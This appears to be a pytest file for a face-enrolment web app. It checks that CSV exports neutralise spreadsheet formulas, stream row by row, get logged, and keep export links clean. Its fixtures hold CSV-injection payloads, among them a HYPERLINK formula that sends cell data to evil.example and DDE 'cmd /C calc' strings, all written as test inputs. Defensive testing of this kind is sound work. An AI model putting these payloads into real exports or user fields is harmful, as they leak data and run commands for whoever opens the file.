"""CSV exports: a formula typed into a name or a reference comes out as plain text in a spreadsheet,
every export streams row by row and is written to the security log, and the list pages' links
carry only their own filters."""
from __future__ import annotations

import re

import pytest

from facesite.extensions import db
from facesite.models import Enrolment, SecurityEvent, VendorCall
from facesite.web.spreadsheets import csv_safe
from tests.support import EnrolPage, face, make_app, sign_in
from tests.support.batch_files import read_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
COMMAND = "=1+cmd|' /C calc'!A0"
# What staff or a batch manifest may have typed, each of which a spreadsheet would run as a formula.
FORMULAS = [HYPERLINK, COMMAND, "   =1+1", " \u00a0=2+2", "@SUM(A1:A9)", "  @SUM(1,2)", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", " -5+5", "\t=1+1", "\r=1+1", "\n=1+1"]
HARMLESS = ["Ana Lima", "O'Neil", "a=b", "x-1", "", "1 + 1", "Zoë @ home"]


def read(response) -> list[dict]:
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"  # once
    return read_csv(response.get_data())


def assert_neutralised(cell: str, typed: str):
    assert cell == "'" + typed, f"{typed!r} came out as {cell!r}"


@pytest.mark.parametrize("typed", FORMULAS)
def test_formula_cells_get_a_leading_apostrophe(typed):
    assert csv_safe(typed) == "'" + typed


@pytest.mark.parametrize("value", [*HARMLESS, 42, -7, 1.5, None])
def test_other_cells_are_written_as_they_are(value):
    assert csv_safe(value) == ("" if value is None else value)


def enrolments(app, names: list[str], references: list[str] | None = None, face_set="exports"):
    with app.app_context():
        db.session.add_all([Enrolment(face_id=f"f-{face_set}-{i}", face_set_id=face_set, name=name,
                                      external_reference_id=(references or names)[i], enrolled_by="otto")
                            for i, name in enumerate(names)])
        db.session.commit()


def exports_recorded(app) -> list[str]:
    with app.app_context():
        return list(db.session.scalars(db.select(SecurityEvent.detail).filter_by(event="csv_export")
                                       .order_by(SecurityEvent.id)))


def test_a_formula_typed_into_the_enrol_form_is_plain_text_in_both_exports(fake_app):
    operator = sign_in(fake_app.test_client(), "operator")
    done = EnrolPage(operator).send(face("obama.jpg"), faceSetId="1", name=HYPERLINK, externalReferenceId=COMMAND)
    assert done.status_code == 303

    register = read(operator.get("/register/export.csv"))
    assert len(register) == 1
    assert_neutralised(register[0]["name"], HYPERLINK)
    assert_neutralised(register[0]["external_reference_id"], COMMAND)

    audit = read(sign_in(fake_app.test_client(), "admin").get("/admin/audit.csv"))
    added = [row for row in audit if row["call"] == "add_face"]
    assert len(added) == 1
    assert_neutralised(added[0]["external_reference_id"], COMMAND)
    assert exports_recorded(fake_app) == ["register", "audit"]


def test_every_formula_variant_is_neutralised_in_the_register_export(app, client):
    enrolments(app, FORMULAS + HARMLESS)
    rows = {row["face_id"]: row for row in read(client.get("/register/export.csv?face_set=exports"))}
    assert len(rows) == len(FORMULAS + HARMLESS)
    for index, typed in enumerate(FORMULAS):
        assert_neutralised(rows[f"f-exports-{index}"]["name"], typed)
        assert_neutralised(rows[f"f-exports-{index}"]["external_reference_id"], typed)
    for index, typed in enumerate(HARMLESS, start=len(FORMULAS)):
        assert rows[f"f-exports-{index}"]["name"] == typed


def test_every_formula_variant_is_neutralised_in_the_audit_export(app):
    with app.app_context():
        db.session.add_all([VendorCall(call="add_face", username="otto", face_set_id="1", external_reference_id=typed,
                                       outcome_code="PARAMETER_ERROR", outcome_message=typed) for typed in FORMULAS])
        db.session.commit()
    rows = read(sign_in(app.test_client(), "admin").get("/admin/audit.csv"))
    assert sorted(row["external_reference_id"] for row in rows) == sorted("'" + typed for typed in FORMULAS)
    assert all(row["outcome_message"] == row["external_reference_id"] for row in rows)


@pytest.mark.parametrize("database", ["sqlite", "postgresql"])
def test_the_register_export_streams_row_by_row(sandbox, request, database):
    if database == "postgresql":  # yield_per reads through a server-side cursor there
        env = {"DATABASE_URL": request.getfixturevalue("postgres_url")}
    else:
        env = {}
    app = make_app(sandbox.url, env)
    client = sign_in(app.test_client(), "operator")
    count = 1500
    enrolments(app, [f"Person {i}" for i in range(count)])
    response = client.get("/register/export.csv")
    assert response.is_streamed  # a generator, not one string built in memory
    assert response.headers["Content-Disposition"] == 'attachment; filename="facesite-register.csv"'
    chunks = list(response.response)
    assert len(chunks) == count + 1  # the header, then one chunk per enrolment
    assert chunks[0].decode().startswith("\ufeffid,face_id,face_set_id")  # the mark Excel needs, then the header
    assert exports_recorded(app) == ["register"]


def test_batch_results_are_neutralised_and_recorded(fake_app):
    from tests.support.batch_files import make_manifest, make_zip
    from tests.test_batch import BatchPage

    batch = BatchPage(sign_in(fake_app.test_client(), "operator"))
    names = ["   =1+1", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"]
    archive = make_zip({f"p{i}.jpg": face("obama.jpg") for i in range(len(names))})
    manifest = make_manifest([{"faceSetId": "1", "faceImage": f"p{i}.jpg", "externalReferenceId": f"R-{i}",
                               "name": name} for i, name in enumerate(names)])
    job_id = batch.job_id(batch.upload(archive, manifest, face_set="1"))
    rows = batch.results(job_id)
    assert sorted(row["name"] for row in rows) == sorted("'" + name.strip() for name in names)
    assert exports_recorded(fake_app) == [f"batch results {job_id}"]


@pytest.mark.parametrize("page, export, query", [("/register/", "/register/export.csv", "face_set=demo"),
                                                  ("/admin/audit", "/admin/audit.csv", "user=otto")])
def test_list_pages_pass_only_their_own_filters_into_links(app, page, export, query):
    admin = sign_in(app.test_client(), "admin")
    assert admin.get(f"{page}?endpoint=x").status_code == 200  # was a server error
    assert admin.get(f"{page}?{query}&endpoint=static&values=1").status_code == 200
    for number in ("99999999999999999999999", "-3", "two"):  # a page number past any database integer was a 500
        assert admin.get(f"{page}?page={number}").status_code == 200
    html = admin.get(f"{page}?{query}&_anchor=evil&_external=1&_scheme=https&_method=POST").get_data(as_text=True)
    link = re.search(r'<a [^>]*id="csv-export"[^>]*>', html).group(0)
    assert re.search(r'href="([^"]*)"', link).group(1).replace("&amp;", "&") == f"{export}?{query}"
    assert "evil" not in html and "https://" not in html
